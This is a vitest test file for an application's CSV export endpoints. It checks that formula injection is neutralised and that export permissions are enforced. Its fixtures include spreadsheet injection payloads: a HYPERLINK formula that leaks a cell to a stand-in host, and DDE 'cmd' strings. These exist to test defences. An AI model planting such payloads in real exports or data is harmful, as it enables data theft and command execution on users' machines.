import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { looksLikeFormula } from "../../src/core/csv.js";
import { createWorld, DIALECTS, PASSWORD, type Response, type TestWorld } from "./harness.js";

const DAY = 86_400_000;

/** Hostile text as people might paste it. The API trims leading and trailing whitespace. */
const HOSTILE = {
  title: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  failureMode: "+cmd|' /C calc'!A0",
  triggers: "@SUM(1+1)*cmd|' /C calc'!A0",
  dependencies: "-2+3",
  businessImpact: 'Line one\nline two, with a comma and "quotes"\r\n\t=tab inside — ünïcödé 😀',
  rationale: "=1+1 is the rationale",
  conditions: "\uFF1Dfull-width equals",
  ledgerSummary: "@SUM(A1:A9) saved us",
  estimateBasis: '-1+1 by volume, "roughly"',
  source: "=evil-sender",
  personName: '=HYPERLINK("http://evil.example")',
};

/** A cell that a spreadsheet would run: looks like a formula and is not a plain number. */
function runnable(cell: string): boolean {
  return looksLikeFormula(cell) && !/^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell);
}

function csvOf(res: Response): Record<string, string>[] {
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  expect(String(res.headers["content-type"])).toMatch(/^text\/csv; charset=utf-8/);
  const rows = parse(String(res.body), { bom: true }) as string[][];
  const [header, ...data] = rows;
  for (const row of rows)
    for (const cell of row) expect(runnable(cell), `runnable cell: ${cell}`).toBe(false);
  return data.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i] ?? ""])));
}

describe.each(DIALECTS)("CSV exports neutralise formula injection [%s]", (dialect) => {
  let w: TestWorld;
  let riskId = "";
  let signalId = "";
  let readToken = "";
  let ingestToken = "";

  beforeAll(async () => {
    w = await createWorld(dialect);
    const ok = (res: Response) => {
      if (res.status >= 300) throw new Error(`fixture: ${res.status} ${JSON.stringify(res.body)}`);
      return res.body;
    };
    ok(
      await w.engineer.post("/api/v1/systems", {
        key: "csv-bot",
        name: '-Sales bot, "EU"',
        purpose: "@Answers pricing questions",
        leadershipOwnerId: w.leader.person.id,
        engineeringOwnerId: w.engineer.person.id,
      }),
    );
    riskId = ok(
      await w.engineer.post("/api/v1/systems/csv-bot/risks", {
        title: HOSTILE.title,
        class: "security",
        growth: "quiet",
        impact: 5,
        likelihood: 2,
        failureMode: HOSTILE.failureMode,
        triggers: HOSTILE.triggers,
        dependencies: HOSTILE.dependencies,
        businessImpact: HOSTILE.businessImpact,
        revealingSignals: ["=1+1", "plain"],
        costOfFailure: { low: 1000, high: 5000, currency: "EUR" },
      }),
    ).id;
    ok(await w.leader.post(`/api/v1/risks/${riskId}/decisions`, { outcome: "mitigate", rationale: "first" }));
    ok(
      await w.leader.post(`/api/v1/risks/${riskId}/decisions`, {
        outcome: "accept",
        rationale: HOSTILE.rationale,
        conditions: HOSTILE.conditions,
        reviewBy: "2026-09-30",
      }),
    );
    ok(
      await w.engineer.post("/api/v1/systems/csv-bot/ledger", {
        occurredOn: "2026-05-20",
        kind: "prevented",
        summary: HOSTILE.ledgerSummary,
        value: { low: 100, high: 250.5, currency: "USD" },
        estimateBasis: HOSTILE.estimateBasis,
      }),
    );
    signalId = ok(
      await w.engineer.post("/api/v1/systems/csv-bot/signals", {
        key: "margin",
        name: "Margin",
        kind: "custom",
        unit: "USD",
        aggregation: "sum",
      }),
    ).id;
    const start = Date.parse("2026-05-01T00:00:00Z");
    ok(
      await w.engineer.post(
        `/api/v1/signals/${signalId}/points`,
        Array.from({ length: 10 }, (_, i) => ({
          t: start + i * DAY + 3_600_000,
          v: i - 4.5,
          source: HOSTILE.source,
        })),
      ),
    );
    ok(
      await w.admin.post("/api/v1/people", {
        name: HOSTILE.personName,
        email: "hostile@test.dev",
        side: "leadership",
        password: PASSWORD,
      }),
    );
    readToken = ok(await w.engineer.post("/api/v1/tokens", { name: "r", scopes: ["read"] })).token;
    ingestToken = ok(await w.engineer.post("/api/v1/tokens", { name: "i", scopes: ["ingest"] })).token;
  });
  afterAll(() => w.close());

  it("the risk register: both views, posture, live decision and review-by; hostile text comes back quoted", async () => {
    const res = await w.leader.get("/api/v1/risks/export.csv?systemId=csv-bot");
    expect(res.headers["content-disposition"]).toBe(
      'attachment; filename="parley-risks-csv-bot-2026-06-01.csv"',
    );
    const [row] = csvOf(res);
    expect(row).toMatchObject({
      system: "csv-bot",
      risk_id: riskId,
      title: `'${HOSTILE.title}`,
      failure_mode: `'${HOSTILE.failureMode}`,
      triggers_and_edge_cases: `'${HOSTILE.triggers}`,
      dependencies: `'${HOSTILE.dependencies}`,
      business_impact: HOSTILE.businessImpact,
      revealing_signals: "'=1+1; plain",
      posture: "accepted",
      decision: "accept",
      decision_rationale: `'${HOSTILE.rationale}`,
      decision_conditions: `'${HOSTILE.conditions}`,
      review_by: "2026-09-30",
      impact: "5",
      likelihood: "2",
      cost_of_failure_low: "1000",
      cost_currency: "EUR",
      decided_by: "Lena Leader",
    });
  });

  it("decisions: every decision with its status, superseded included; current=true keeps the live one", async () => {
    const all = csvOf(await w.engineer.get("/api/v1/decisions/export.csv"));
    expect(all.map((d) => [d.outcome, d.status])).toEqual(
      expect.arrayContaining([
        ["accept", "current"],
        ["mitigate", "superseded"],
      ]),
    );
    expect(all.find((d) => d.outcome === "accept")?.risk_title).toBe(`'${HOSTILE.title}`);
    const current = csvOf(await w.engineer.get("/api/v1/decisions/export.csv?current=true&systemId=csv-bot"));
    expect(current.map((d) => d.outcome)).toEqual(["accept"]);
  });

  it("the ledger: values stay numbers, text is neutralised, commas and quotes survive", async () => {
    const [row] = csvOf(await w.engineer.get("/api/v1/ledger/export.csv?systemId=csv-bot"));
    expect(row).toMatchObject({
      system: "csv-bot",
      system_name: `'-Sales bot, "EU"`,
      summary: `'${HOSTILE.ledgerSummary}`,
      estimate_basis: `'${HOSTILE.estimateBasis}`,
      value_low: "100",
      value_high: "250.5",
      currency: "USD",
      kind: "prevented",
    });
  });

  it("a signal's daily series and its raw points: negative numbers stay numeric, the source is quoted", async () => {
    const range = "from=2026-05-01T00:00:00Z&to=2026-05-11T00:00:00Z";
    const daily = await w.engineer.get(`/api/v1/signals/${signalId}/export.csv?${range}`);
    expect(daily.headers["content-disposition"]).toBe(
      'attachment; filename="parley-signal-csv-bot-margin-day-2026-05-01-2026-05-10.csv"',
    );
    const days = csvOf(daily);
    expect(days.map((d) => d.value)).toEqual([
      "-4.5",
      "-3.5",
      "-2.5",
      "-1.5",
      "-0.5",
      "0.5",
      "1.5",
      "2.5",
      "3.5",
      "4.5",
    ]);
    expect(days[0]).toMatchObject({ bucket_start: "2026-05-01T00:00:00.000Z", points: "1" });

    const raw = csvOf(
      await w.engineer.get(`/api/v1/signals/${signalId}/export.csv?${range}&resolution=raw&bom=true`),
    );
    expect(raw).toHaveLength(10);
    expect(raw[0]).toMatchObject({
      time: "2026-05-01T01:00:00.000Z",
      value: "-4.5",
      source: `'${HOSTILE.source}`,
    });
    const bomBody = (
      await w.engineer.get(`/api/v1/signals/${signalId}/export.csv?${range}&resolution=raw&bom=true`)
    ).body;
    expect(String(bomBody).charCodeAt(0)).toBe(0xfeff);
    expect(String(daily.body).charCodeAt(0)).not.toBe(0xfeff);
    const empty = await w.engineer.get(
      `/api/v1/signals/${signalId}/export.csv?from=2020-01-01T00:00:00Z&to=2020-01-02T00:00:00Z&resolution=raw`,
    );
    expect(String(empty.body)).toBe("time,time_ms,value,denominator,source\r\n");
    const backwards = await w.engineer.get(
      `/api/v1/signals/${signalId}/export.csv?from=2026-05-11T00:00:00Z&to=2026-05-01T00:00:00Z`,
    );
    expect(backwards.status).toBe(400);
    expect(backwards.body.error.code).toBe("invalid_range");
  });

  it("the people list is for admins; read tokens may export, ingest tokens may not", async () => {
    const people = csvOf(await w.admin.get("/api/v1/people/export.csv"));
    expect(people.find((p) => p.email === "hostile@test.dev")?.name).toBe(`'${HOSTILE.personName}`);
    const denied = await w.leader.get("/api/v1/people/export.csv");
    expect(denied.status).toBe(403);
    expect(denied.body.error.code).toBe("admin_required");
    expect((await w.as({ token: readToken }).get("/api/v1/risks/export.csv")).status).toBe(200);
    const ingest = await w.as({ token: ingestToken }).get("/api/v1/ledger/export.csv");
    expect(ingest.status).toBe(403);
    expect((await w.anonymous.get("/api/v1/decisions/export.csv")).status).toBe(401);
    const missing = await w.engineer.get("/api/v1/risks/export.csv?systemId=no-such-system");
    expect(missing.status).toBe(404);
  });
});
